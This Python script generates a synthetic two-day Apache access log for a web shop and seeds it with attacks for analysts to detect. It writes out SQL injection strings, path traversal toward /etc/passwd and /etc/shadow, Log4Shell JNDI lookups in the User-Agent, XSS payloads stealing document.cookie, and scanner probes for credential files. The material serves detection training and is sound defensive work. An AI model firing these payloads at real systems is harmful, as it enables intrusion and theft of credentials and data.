#!/usr/bin/env python3
"""Writes a realistic Apache combined access log with known attacks in it.

Two days of a small web shop: visitors following a daily rhythm, each page followed by
its assets, search engine crawlers, and, mixed in, the attacks an analyst should find:

  * a Nikto scan probing for /.env, /.git/config, backups and admin pages (night 1, 03:1x)
  * a password brute force on POST /login that ends in a success (day 1, 14:2x)
  * sqlmap injecting SQL into /products?id= and /search?q= (day 2, 10:0x)
  * path traversal towards /etc/passwd, plain and percent-encoded (day 2, 11:4x)
  * a Log4Shell probe in the User-Agent (day 1, 21:0x)
  * reflected XSS attempts in the search box (day 2, 16:3x)
  * a bulk export of customer data at night (night 2, 02:4x)

and a few lines a real log has that are not requests: one cut off mid-line, one
timestamp with nothing after it, one note from a log rotation script.

The output is deterministic for a given --seed. Usage:

    python3 scripts/generate_access_log.py --seed 7 > example_logs/access_combined.log
"""

import argparse
import datetime as dt
import random
import sys

TZ = dt.timezone(dt.timedelta(hours=1))
START = dt.datetime(2024, 3, 11, 0, 0, 0, tzinfo=TZ)
DAYS = 2

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.105 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.80",
]
CRAWLERS = [
    ("192.0.2.66", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("192.0.2.67", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
]
PAGES = ["/", "/products", "/products?page=2", "/about", "/contact", "/cart", "/checkout", "/account"]
ASSETS = [("/static/css/site.css", 18_344), ("/static/js/app.js", 92_118), ("/favicon.ico", 1_150)]
SEARCH_TERMS = ["boots", "red+jacket", "gift+card", "wool+socks", "rain+coat", "sale"]

# Share of the daily traffic in each hour of the day, a typical shop's rhythm.
HOURLY_WEIGHT = [1, 1, 1, 1, 1, 2, 4, 6, 8, 9, 10, 10, 11, 10, 10, 10, 10, 11, 12, 12, 10, 7, 4, 2]


def clf_time(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S %z")


def line(ip, t, request, status, size, referer="-", agent="-", user="-"):
    size_field = "-" if size is None else str(size)
    return (t, f'{ip} - {user} [{clf_time(t)}] "{request}" {status} {size_field} "{referer}" "{agent}"')


def visitor_ips(rng, count):
    nets = ["203.0.113.", "198.51.100.", "192.0.2."]
    ips = set()
    while len(ips) < count:
        ips.add(rng.choice(nets) + str(rng.randint(2, 254)))
    return sorted(ips)


def random_time(rng):
    day = rng.randrange(DAYS)
    hour = rng.choices(range(24), weights=HOURLY_WEIGHT)[0]
    return START + dt.timedelta(days=day, hours=hour, seconds=rng.randrange(3600))


def visit(rng, ip, agent):
    """A browsing session: a few pages, each pulling its assets."""
    t = random_time(rng)
    out = []
    referer = rng.choice(["-", "https://www.google.com/", "https://duckduckgo.com/"])
    for _ in range(rng.randint(1, 6)):
        page = rng.choice(PAGES + [f"/products/{rng.randint(100, 180)}", f"/search?q={rng.choice(SEARCH_TERMS)}"])
        status = 200 if rng.random() > 0.03 else 404
        out.append(line(ip, t, f"GET {page} HTTP/1.1", status, rng.randint(3_000, 40_000), referer, agent))
        for path, size in ASSETS:
            t += dt.timedelta(seconds=rng.randint(0, 1))
            cached = rng.random() < 0.4
            out.append(line(ip, t, f"GET {path} HTTP/1.1", 304 if cached else 200, None if cached else size,
                            "https://shop.example" + page, agent))
        if page.startswith("/products/"):
            img = f"/static/img/p{page.rsplit('/', 1)[1]}.jpg"
            out.append(line(ip, t, f"GET {img} HTTP/1.1", 200, rng.randint(40_000, 250_000),
                            "https://shop.example" + page, agent))
        referer = "https://shop.example" + page
        t += dt.timedelta(seconds=rng.randint(5, 120))
    return out


def crawl(rng, ip, agent):
    out = [line(ip, random_time(rng), "GET /robots.txt HTTP/1.1", 200, 112, "-", agent)]
    for _ in range(rng.randint(20, 40)):
        page = rng.choice(PAGES[:5] + [f"/products/{rng.randint(100, 180)}"])
        out.append(line(ip, random_time(rng), f"GET {page} HTTP/1.1", 200, rng.randint(3_000, 40_000), "-", agent))
    return out


def nikto_scan(rng):
    ip, agent = "198.51.100.23", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"
    probes = [
        "/.env", "/.git/config", "/.git/HEAD", "/wp-admin/", "/wp-login.php", "/phpmyadmin/", "/admin/",
        "/backup.sql", "/backup.zip", "/db.sql", "/config.php.bak", "/.htpasswd", "/server-status",
        "/cgi-bin/test.cgi", "/.DS_Store", "/web.config", "/admin/config.php", "/install.php",
        "/.aws/credentials", "/api/v1/debug", "/console", "/actuator/env", "/.svn/entries", "/old/",
    ]
    t = START + dt.timedelta(hours=3, minutes=12)
    out = []
    for i in range(150):
        path = probes[i % len(probes)] + ("" if i < len(probes) else f"?nikto={i}")
        status = 403 if path.startswith("/server-status") else 404
        out.append(line(ip, t, f"GET {path} HTTP/1.1", status, rng.randint(150, 300), "-", agent))
        t += dt.timedelta(milliseconds=rng.randint(200, 900))
    return out


def brute_force(rng):
    ip, agent = "203.0.113.77", "python-requests/2.31.0"
    t = START + dt.timedelta(hours=14, minutes=20)
    out = []
    for _ in range(60):
        out.append(line(ip, t, "POST /login HTTP/1.1", 401, 43, "-", agent))
        t += dt.timedelta(seconds=rng.randint(5, 15))
    out.append(line(ip, t, "POST /login HTTP/1.1", 302, 0, "-", agent))
    out.append(line(ip, t + dt.timedelta(seconds=1), "GET /account HTTP/1.1", 200, 8_812, "-", agent, user="admin"))
    return out


def sql_injection(rng):
    ip, agent = "192.0.2.150", "sqlmap/1.7.2#stable (https://sqlmap.org)"
    payloads = [
        "/products?id=1%27", "/products?id=1%27%20OR%20%271%27%3D%271", "/products?id=1%20AND%201%3D1",
        "/products?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
        "/products?id=1%3BSELECT%20pg_sleep(5)--", "/search?q=%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
        "/search?q=1%27%20AND%20SLEEP(5)%23", "/products?id=-1%27%20OR%203*2*1%3D6%20AND%20000831%3D000831%20--%20",
    ]
    t = START + dt.timedelta(days=1, hours=10, minutes=3)
    out = []
    for i in range(40):
        status = 500 if i % 3 == 0 else 200
        out.append(line(ip, t, f"GET {payloads[i % len(payloads)]} HTTP/1.1", status, rng.randint(300, 9_000), "-", agent))
        t += dt.timedelta(seconds=rng.randint(1, 4))
    return out


def path_traversal(rng):
    ip, agent = "198.51.100.144", BROWSERS[2]
    attempts = [
        "/download?file=../../../../etc/passwd", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/..%252f..%252f..%252fetc%252fpasswd", "/download?file=....//....//....//etc/shadow",
        "/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts", "/download?file=..%5c..%5c..%5cwindows%5cwin.ini",
    ]
    t = START + dt.timedelta(days=1, hours=11, minutes=41)
    out = []
    for path in attempts * 2:
        out.append(line(ip, t, f"GET {path} HTTP/1.1", rng.choice([400, 404]), rng.randint(150, 400), "-", agent))
        t += dt.timedelta(seconds=rng.randint(2, 20))
    return out


def log4shell(rng):
    ip = "198.51.100.9"
    t = START + dt.timedelta(hours=21, minutes=4)
    agents = ["${jndi:ldap://198.51.100.9:1389/Exploit}", "${${lower:j}ndi:${lower:r}mi://198.51.100.9/a}"]
    return [line(ip, t + dt.timedelta(seconds=i * 7), "GET / HTTP/1.1", 200, 5_321, "-", agents[i % 2]) for i in range(4)]


def xss(rng):
    ip, agent = "203.0.113.200", BROWSERS[0]
    payloads = [
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
        "/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", "/search?q=javascript%3Aalert(1)",
    ]
    t = START + dt.timedelta(days=1, hours=16, minutes=33)
    return [line(ip, t + dt.timedelta(seconds=i * 11), f"GET {p} HTTP/1.1", 200, rng.randint(4_000, 6_000), "-", agent)
            for i, p in enumerate(payloads * 2)]


def exfiltration(rng):
    ip, agent = "192.0.2.201", "curl/8.5.0"
    t = START + dt.timedelta(days=1, hours=26 - 24, minutes=41)  # 02:41 on the second night
    out = [line(ip, t, "GET /account HTTP/1.1", 200, 8_812, "-", agent, user="j.miller")]
    for i in range(6):
        out.append(line(ip, t + dt.timedelta(seconds=30 + i * 40), f"GET /export/customers.csv?page={i + 1} HTTP/1.1",
                        200, rng.randint(48_000_000, 61_000_000), "-", agent, user="j.miller"))
    return out


def generate(seed, visits):
    rng = random.Random(seed)
    records = []
    ips = visitor_ips(rng, 180)
    agent_of = {ip: rng.choice(BROWSERS) for ip in ips}
    for _ in range(visits):
        ip = rng.choice(ips)
        records += visit(rng, ip, agent_of[ip])
    for ip, agent in CRAWLERS:
        records += crawl(rng, ip, agent)
    for attack in (nikto_scan, brute_force, sql_injection, path_traversal, log4shell, xss, exfiltration):
        records += attack(rng)
    records.sort(key=lambda r: r[0])
    lines = [text for _, text in records]

    # Lines real logs have that are not requests, at fixed places.
    cut = lines[len(lines) // 3]
    lines.insert(len(lines) // 3, cut[: cut.index('" "') + 20])  # cut off inside the user agent
    stamp = lines[len(lines) // 2]
    lines.insert(len(lines) // 2, stamp[: stamp.index("]") + 1])  # a timestamp with nothing after
    lines.insert(2 * len(lines) // 3, "-- logrotate: access.log rotated, compressing access.log.1 --")
    return lines


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--visits", type=int, default=420, help="browsing sessions to write")
    args = parser.parse_args()
    sys.stdout.write("\n".join(generate(args.seed, args.visits)) + "\n")


if __name__ == "__main__":
    main()
